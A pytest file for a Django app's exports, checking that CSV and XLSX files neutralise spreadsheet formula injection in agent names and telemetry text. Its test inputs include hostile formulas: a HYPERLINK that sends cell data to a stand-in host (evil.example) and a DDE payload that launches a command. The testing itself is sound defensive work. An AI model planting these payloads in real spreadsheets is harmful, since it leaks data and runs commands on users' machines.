"""Formula injection: telemetry text never becomes a live spreadsheet formula in any export."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from agentops.exports import neutralise
from tests.factories import make_agent, make_department
from tests.roi.factories import make_run, standard_ledger

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
           "\t=1+1", "\r=1+1"]
MARCH = {"period": "month", "month": "2026-03", "grouping": "agent"}


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_is_made_inert(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["-12.50", "+3", "-1,234.5", "12%", -4, 3.5, None, "plain", "a=b"])
def test_numbers_and_ordinary_text_are_left_alone(value):
    assert neutralise(value) == value


@pytest.fixture
def hostile_agents(finance_user):
    dept = make_department("Support")
    agents = [make_agent(name, department=dept) for name in HOSTILE[:4]]
    standard_ledger(finance_user, dept, *agents[:2])
    for agent in agents:
        make_run(agent, datetime(2026, 3, 2, 9, tzinfo=UTC), cost="0.5")
    return agents


@pytest.mark.django_db
def test_roi_csv_writes_agent_names_as_text(finance_client, hostile_agents):
    export = finance_client.get(reverse("roi:export_csv"), MARCH)
    rows = list(csv.reader(io.StringIO(export.content.decode())))
    table = rows[1:rows.index([])] if [] in rows else rows[1:]  # the notes follow an empty line
    names = [row[0] for row in table]
    for agent in hostile_agents:
        assert "'" + agent.name in names
    assert not any(name.startswith(("=", "+", "-", "@")) for name in names)


@pytest.mark.django_db
def test_roi_xlsx_has_no_formula_cells(finance_client, hostile_agents):
    export = finance_client.get(reverse("roi:export_xlsx"), MARCH)
    book = load_workbook(io.BytesIO(export.content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    names = [row[0] for row in book["ROI"].iter_rows(min_row=2, values_only=True)]
    assert "'" + hostile_agents[0].name in names


def test_every_export_goes_through_the_shared_writer():
    """csv.writer and openpyxl sheets are used only in agentops/exports.py (present and future exports)."""
    offenders = []
    for path in ROOT.glob("*/**/*.py"):
        rel = path.relative_to(ROOT)
        if rel.parts[0] in {".venv", "tests", "bench", ".demo"} or rel == Path("agentops/exports.py"):
            continue
        text = path.read_text()
        if "csv.writer(" in text or "csv.DictWriter(" in text:
            offenders.append(str(rel))
        # openpyxl writes: a worksheet's append() or a cell value set directly.
        if "openpyxl" in text and re.search(r"\b(sheet|ledger|ws|worksheet|book\.active)\w*\.append\(|\.cell\(.*value=", text):
            offenders.append(str(rel))
    assert offenders == []


@pytest.mark.django_db
def test_runs_csv_writes_telemetry_text_as_text(ops_client):
    from datetime import timedelta

    from django.utils import timezone

    from tests.monitoring.factories import make_run as make_monitoring_run

    agent = make_agent("=1+2")
    make_monitoring_run(agent, status="error", error_type='=HYPERLINK("http://evil.example","x")',
             session_id="@SUM(1+1)", started_at=timezone.now() - timedelta(minutes=5))
    export = ops_client.get(reverse("monitoring:runs_export"))
    body = b"".join(export.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(body)))
    assert any("'=HYPERLINK(" in cell for row in rows[1:] for cell in row), rows
    assert any(cell == "'@SUM(1+1)" for row in rows[1:] for cell in row)
    assert not any(cell.startswith(("=", "@")) for row in rows[1:] for cell in row)


@pytest.mark.django_db
def test_finance_does_not_read_escalation_reasons(finance_client, finance_user):
    """Decision (docs/operations.md, "Finance and telemetry text"): the drill-down shows what the
    human minutes are made of, not the telemetry text of the escalation."""
    from handoffs.models import Ticket
    from tests.roi.factories import make_finished_ticket

    dept = make_department("Support")
    agent = make_agent("Refunds", department=dept)
    ticket = make_finished_ticket(agent, datetime(2026, 3, 6, tzinfo=UTC), 600)
    Ticket.objects.filter(pk=ticket.pk).update(reason="Customer Jane Roe, card 4111 1111 1111 1111")
    response = finance_client.get(reverse("roi:tickets"), {"agent": agent.pk, "from": "2026-03-01",
                                                           "to": "2026-03-31"})
    body = response.content.decode()
    assert response.status_code == 200 and f"#{ticket.pk}" in body
    assert "Jane Roe" not in body and "4111" not in body
    assert str(ticket.root_cause) in body
